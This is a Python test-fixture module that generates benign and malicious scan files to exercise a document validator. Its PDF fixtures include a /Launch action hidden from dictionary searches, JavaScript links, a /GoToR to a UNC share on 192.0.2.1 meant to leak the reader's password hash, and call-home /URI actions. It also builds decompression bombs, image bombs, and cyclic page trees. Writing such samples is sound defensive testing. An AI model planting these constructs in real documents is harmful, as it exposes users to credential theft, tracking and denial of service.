"""Good and bad scan files, made on the spot."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pillow_heif
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

pillow_heif.register_heif_opener(thumbnails=False)


def picture(width: int = 620, height: int = 877) -> Image.Image:
    """A page with a red field in its upper left and a gradient that does not compress away."""
    grey = Image.radial_gradient("L").resize((width, height))
    page = Image.merge("RGB", (grey, grey.transpose(Image.Transpose.FLIP_TOP_BOTTOM), grey))
    page.paste((220, 20, 20), (0, 0, width // 2, height // 4))
    return page


def coded(image: Image.Image, coding: str, **options: Any) -> bytes:
    """The file that Pillow writes."""
    out = BytesIO()
    image.save(out, coding, **options)
    return out.getvalue()


def bilevel_png(width: int, height: int) -> bytes:
    """A PNG of any size that takes kilobytes."""

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes((1 + width // 8) * height), 1)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def pdf(
    change: Callable[[PdfWriter], object] | None = None,
    pages: int = 1,
    size: tuple[float, float] = (595, 842),
) -> bytes:
    """A PDF of blank pages, changed by ``change`` before it is written."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(*size)
    if change:
        change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind: str) -> DictionaryObject:
    """An action dictionary, e.g. of ``/JavaScript``."""
    return DictionaryObject(
        {
            NameObject("/S"): NameObject(kind),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )


def launches_a_program(writer: PdfWriter) -> None:
    """The action's name stands in an object of its own, where a search of dictionaries does not meet it."""
    name = writer._add_object(NameObject("/Launch"))
    launch = DictionaryObject({NameObject("/S"): name, NameObject("/F"): TextStringObject("x")})
    writer.root_object[NameObject("/OpenAction")] = launch


def runs_a_script_from_a_link(writer: PdfWriter) -> None:
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            NameObject("/A"): writer._add_object(action("/JavaScript")),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([link])


def opens_a_file_elsewhere(writer: PdfWriter) -> None:
    """Opening it sends the reader's password, hashed, to a share of somebody else's."""
    remote = action_without_script("/GoToR")
    remote[NameObject("/F")] = TextStringObject("\\\\192.0.2.1\\share\\a.pdf")
    writer.root_object[NameObject("/OpenAction")] = remote


def calls_home_when_opened(writer: PdfWriter) -> None:
    """The address comes after a harmless jump."""
    jump = action_without_script("/GoTo")
    jump[NameObject("/Next")] = ArrayObject([_address(writer)])
    writer.root_object[NameObject("/OpenAction")] = jump


def calls_home_from_a_page(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _address(writer)})


def links_to_a_page(writer: PdfWriter) -> None:
    link = DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): _address(writer)})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([link])


def _address(writer: PdfWriter) -> Any:
    uri = action_without_script("/URI")
    uri[NameObject("/URI")] = TextStringObject("http://192.0.2.1/seen")
    return writer._add_object(uri)


def carries_an_xfa_form(writer: PdfWriter) -> None:
    form = DictionaryObject({NameObject("/XFA"): TextStringObject("x")})
    writer.root_object[NameObject("/AcroForm")] = form


def holds_a_picture_bomb(writer: PdfWriter) -> None:
    image = StreamObject()
    image[NameObject("/Subtype")] = NameObject("/Image")
    image[NameObject("/Width")] = image[NameObject("/Height")] = NumberObject(35_000)
    _paint(writer, image, b"")


def draws_without_end(writer: PdfWriter) -> None:
    """Forms that paint forms: a million million rectangles from two kilobytes."""
    inner: Any = None
    for _ in range(7):
        form = StreamObject()
        form[NameObject("/Subtype")] = NameObject("/Form")
        form[NameObject("/BBox")] = ArrayObject([NumberObject(n) for n in (0, 0, 595, 842)])
        form.set_data(b"/I Do\n" * 100 if inner else b"0 0 595 842 re f\n" * 100)
        if inner:
            form[NameObject("/Resources")] = _resources(inner)
        inner = writer._add_object(form)
    _paint(writer, inner, b"/I Do\n" * 100)


def _paint(writer: PdfWriter, thing: Any, content: bytes) -> None:
    page, stream = writer.pages[0], StreamObject()
    stream.set_data(content)
    page[NameObject("/Contents")] = writer._add_object(stream)
    page[NameObject("/Resources")] = _resources(writer._add_object(thing))


def _resources(thing: Any) -> DictionaryObject:
    return DictionaryObject({NameObject("/XObject"): DictionaryObject({NameObject("/I"): thing})})


def tiff(tags: dict[int, tuple[int, list[int]]], data: bytes) -> bytes:
    """A little-endian TIFF of one frame: tag to field type (3 short, 4 long) and values; its data begins at byte 8.

    An ``OFFSET`` among the values stands for that byte.
    """
    places: list[bytes] = []
    after, extra = 8 + len(data) + len(data) % 2, b""
    entries = after + 2 + 12 * len(tags) + 4
    for tag, (kind, values) in sorted(tags.items()):
        packed = struct.pack(f"<{len(values)}{'H' if kind == 3 else 'I'}", *values)
        if len(packed) > 4:
            packed, extra = struct.pack("<I", entries + len(extra)), extra + packed
        places.append(struct.pack("<HHI", tag, kind, len(values)) + packed.ljust(4, b"\0"))
    head = b"II*\0" + struct.pack("<I", after) + data + bytes(len(data) % 2)
    return head + struct.pack("<H", len(tags)) + b"".join(places) + bytes(4) + extra


def tiled_tiff(image: Image.Image, side: int = 256) -> bytes:
    """The picture in square tiles, uncompressed, as large-format scanners write them."""
    image = image.convert("RGB")
    boxes = [(x, y, x + side, y + side) for y in range(0, image.height, side) for x in range(0, image.width, side)]
    tiles = [image.crop(box).tobytes() for box in boxes]
    offsets = [8 + sum(map(len, tiles[:n])) for n in range(len(tiles))]
    tags = {
        256: (4, [image.width]),
        257: (4, [image.height]),
        258: (3, [8, 8, 8]),
        259: (3, [1]),
        262: (3, [2]),
        277: (3, [3]),
        322: (4, [side]),
        323: (4, [side]),
        324: (4, offsets),
        325: (4, [len(tile) for tile in tiles]),
    }
    return tiff(tags, b"".join(tiles))


def deep_tiff(image: Image.Image) -> bytes:
    """The picture with sixteen bits for each of red, green and blue."""
    rgb = image.convert("RGB").tobytes()
    data = b"".join(struct.pack("<H", value * 257) for value in rgb)
    tags = {
        256: (4, [image.width]),
        257: (4, [image.height]),
        258: (3, [16, 16, 16]),
        259: (3, [1]),
        262: (3, [2]),
        273: (4, [8]),
        277: (3, [3]),
        278: (4, [image.height]),
        279: (4, [len(data)]),
    }
    return tiff(tags, data)


def interlaced_png(image: Image.Image) -> bytes:
    """The picture in the seven passes of Adam7 (PNG 8.2)."""
    rgb = image.convert("RGB")
    rows = b""
    for x, y, right, down in (
        (0, 0, 8, 8),
        (4, 0, 8, 8),
        (0, 4, 4, 8),
        (2, 0, 4, 4),
        (0, 2, 2, 4),
        (1, 0, 2, 2),
        (0, 1, 1, 2),
    ):
        for line in range(y, rgb.height, down):
            points = [rgb.getpixel((column, line)) for column in range(x, rgb.width, right)]
            rows += b"\0" + b"".join(bytes(point) for point in points if isinstance(point, tuple))
    header = struct.pack(">IIBBBBB", *rgb.size, 8, 2, 0, 0, 1)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(rows)) + _chunk(b"IEND", b"")


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def twelve_bits(jpeg: bytes) -> bytes:
    """A JPEG whose frame says twelve bits a sample."""
    place = jpeg.index(b"\xff\xc0")
    return jpeg[: place + 1] + b"\xc1" + jpeg[place + 2 : place + 4] + b"\x0c" + jpeg[place + 5 :]


def archive(names: dict[str, bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP archive."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", packing) as package:
        for name, data in names.items():
            package.writestr(name, data)
    return out.getvalue()


OFD_ROOT = (
    '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.1" '
    'DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>'
)


def ofd(**more: bytes) -> bytes:
    """An OFD package, with further entries."""
    return archive({"OFD.xml": OFD_ROOT.encode(), "Doc_0/Document.xml": b"<Document/>", **more})


def attaches(name: str, data: bytes) -> Callable[[PdfWriter], object]:
    """A PDF that carries a file."""
    return lambda writer: writer.add_attachment(name, data)


INVOICE = b'<?xml version="1.0" encoding="UTF-8"?><EInvoice><Amount>100.00</Amount></EInvoice>'


def sends_a_form(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = action_without_script("/SubmitForm")


def plays_a_film(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = action_without_script("/Rendition")


def action_without_script(kind: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind)})


def runs_in_a_circle(writer: PdfWriter) -> None:
    """The tree of pages contains itself."""
    pages = writer.root_object[NameObject("/Pages")].get_object()
    pages[NameObject("/Kids")].append(writer.root_object.raw_get("/Pages"))  # type: ignore[attr-defined, index]  # a made-up tree


def unpacks_without_end(writer: PdfWriter) -> None:
    """A hundred kilobytes of page content that unpack to a hundred megabytes."""
    stream = StreamObject()
    stream.set_data(b" " * 100_000_000)
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream.flate_encode())


def is_packed_twice(writer: PdfWriter) -> None:
    stream = StreamObject()
    stream.set_data(b" " * 1000)
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream.flate_encode().flate_encode())
